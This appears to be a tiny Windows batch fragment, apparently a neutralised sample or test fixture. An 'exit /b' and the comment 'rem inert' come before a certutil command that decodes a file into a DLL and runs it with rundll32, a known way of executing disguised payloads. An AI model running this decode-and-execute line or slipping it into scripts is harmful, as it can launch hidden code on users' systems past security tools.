exit /b
rem inert
certutil -decode x.txt x.dll && rundll32 x.dll,Run
